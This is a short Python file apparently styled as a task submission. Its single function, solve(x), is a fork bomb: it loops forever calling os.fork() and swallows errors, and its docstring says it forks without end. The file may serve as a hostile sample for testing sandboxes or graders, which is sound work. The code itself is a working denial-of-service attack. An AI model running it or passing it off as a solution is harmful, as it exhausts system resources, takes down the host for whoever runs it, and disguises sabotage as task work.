"""Forks without end when called."""

import os

def solve(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
